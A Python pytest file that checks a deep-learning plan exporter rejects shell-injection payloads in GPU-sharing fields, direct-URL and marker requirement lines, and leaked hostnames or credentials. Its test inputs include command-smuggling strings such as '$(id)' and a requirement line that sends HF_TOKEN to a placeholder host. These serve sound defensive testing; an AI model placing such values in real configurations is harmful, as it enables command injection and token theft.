"""A plan file's fields that reach the README's shell lines are checked with the same
bounds as a workload's, whichever path the plan came by."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import ValidationError

from benchmarks.hostile import run_cli
from dlconfig.models.container import NotebookSpec
from dlconfig.models.plan import Plan

from .conftest import PLANS_DIR

PAYLOADS = ["x; touch /tmp/pwned", "$(id)", "`id`", "a\nb", "ns' || true"]


def _plan_with(tmp_path: Path, field: str, value: object) -> Path:
    data = json.loads((PLANS_DIR / "tf_serving.json").read_text(encoding="utf-8"))
    data["container"]["gpu_sharing"][field] = value
    path = tmp_path / "recommendation.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    ("field", "wrap"),
    [("config_namespace", str), ("mig_profile", str), ("mig_profiles", lambda p: [p])],
)
def test_shell_metacharacters_in_gpu_sharing_are_refused(
    tmp_path: Path, field: str, wrap: object, payload: str
) -> None:
    path = _plan_with(tmp_path, field, wrap(payload))  # type: ignore[operator]
    with pytest.raises(ValidationError):
        Plan.model_validate_json(path.read_text(encoding="utf-8"))
    code, err = run_cli(["export", str(path), "--out", str(tmp_path / "out"), "--no-pdf"])
    assert code == 2, err
    assert not (tmp_path / "out").exists()


def test_valid_gpu_sharing_values_still_load(tmp_path: Path) -> None:
    path = _plan_with(tmp_path, "mig_profile", "1g.10gb")
    plan = Plan.model_validate_json(path.read_text(encoding="utf-8"))
    assert plan.container is not None and plan.container.gpu_sharing is not None
    assert plan.container.gpu_sharing.config_namespace == "gpu-operator"


@pytest.mark.parametrize(
    "fields",
    [{}, {"tls_secret": "nb-tls"}, {"password_hash": "sha256:" + "ab" * 20}],
)
def test_a_public_notebook_needs_tls_and_a_password_hash(fields: dict[str, str]) -> None:
    with pytest.raises(ValidationError, match="tls_secret and password_hash"):
        NotebookSpec(is_public=True, **fields)  # type: ignore[arg-type]
    NotebookSpec(is_public=True, tls_secret="nb-tls", password_hash="sha256:" + "ab" * 20)


def _plan_stack(tmp_path: Path, **changes: object) -> Path:
    data = json.loads((PLANS_DIR / "tf_serving.json").read_text(encoding="utf-8"))
    data["stack"].update(changes)
    path = tmp_path / "recommendation.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "line",
    [
        "torch @ http://host.example/${HF_TOKEN}/torch.whl",
        "torch @ file:///etc/passwd",
        "tensorflow==2.17.0; sys_platform == 'never'",
    ],
)
def test_a_direct_url_or_a_marker_in_a_requirement_line_is_refused(
    tmp_path: Path, line: str
) -> None:
    path = _plan_stack(tmp_path, requirement_lines=[line])
    code, err = run_cli(["export", str(path), "--out", str(tmp_path / "out"), "--no-pdf"])
    assert code == 2, err
    assert "requirement_lines" in err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [("name", "torch @ file:///etc/passwd"), ("version", "2.5.1; os_name=='x'")],
)
def test_a_framework_pin_is_a_name_and_a_version(tmp_path: Path, field: str, value: str) -> None:
    data = json.loads((PLANS_DIR / "tf_serving.json").read_text(encoding="utf-8"))
    data["stack"]["framework"][field] = value
    with pytest.raises(ValidationError):
        Plan.model_validate(data)


def test_requirement_lines_are_rebuilt_from_name_extras_and_version(tmp_path: Path) -> None:
    data = json.loads((PLANS_DIR / "tf_serving.json").read_text(encoding="utf-8"))
    lines = [x for x in data["stack"]["requirement_lines"] if not x.startswith("--")]
    spaced = [x.replace("==", " == ") for x in lines]
    path = _plan_stack(tmp_path, requirement_lines=spaced)
    out = tmp_path / "out"
    code, err = run_cli(["export", str(path), "--out", str(out), "--no-pdf"])
    assert code == 0, err
    written = (out / "requirements.txt").read_text(encoding="utf-8")
    assert " == " not in written


def test_the_image_context_leaves_out_the_plan_outputs_and_credentials(tmp_path: Path) -> None:
    path = tmp_path / "plan.json"
    path.write_text((PLANS_DIR / "tf_serving.json").read_text(encoding="utf-8"), encoding="utf-8")
    out = tmp_path / "out"
    code, err = run_cli(["export", str(path), "--out", str(out), "--no-pdf"])
    assert code == 0, err
    ignored = set((out / ".dockerignore").read_text(encoding="utf-8").split())
    for entry in ("recommendation.json", ".dlconfig-bundle.json", "output/", ".env", ".netrc"):
        assert entry in ignored
    dockerfile = (out / "Dockerfile").read_text(encoding="utf-8")
    copied = [x.split()[-2] for x in dockerfile.splitlines() if x.startswith("COPY ")]
    assert not ignored & set(copied)  # what the Dockerfile copies by name is not ignored


def test_the_exported_plan_keeps_no_host_name_home_path_or_credentials(tmp_path: Path) -> None:
    data = json.loads((PLANS_DIR / "cpu_only_laptop.json").read_text(encoding="utf-8"))
    data["profile"]["hostname"] = "secret-host-4242"
    data["profile"]["software"]["python_executable"] = "/home/alice/.venv/bin/python"
    secret_url = "https://alice:s3cr3t-t0ken@mirror.example/simple"
    data["workload"]["index_url"] = secret_url
    data["stack"]["index_url"] = secret_url
    data["stack"]["requirement_lines"] = [f"--index-url {secret_url}"] + [
        x for x in data["stack"]["requirement_lines"] if not x.startswith("--index-url")
    ]
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "out"
    code, err = run_cli(["export", str(path), "--out", str(out), "--no-pdf"])
    assert code == 0, err
    text = (out / "recommendation.json").read_text(encoding="utf-8")
    for private in ("secret-host-4242", "/home/alice", "s3cr3t-t0ken", "alice:"):
        assert private not in text
    assert "https://mirror.example/simple" in text
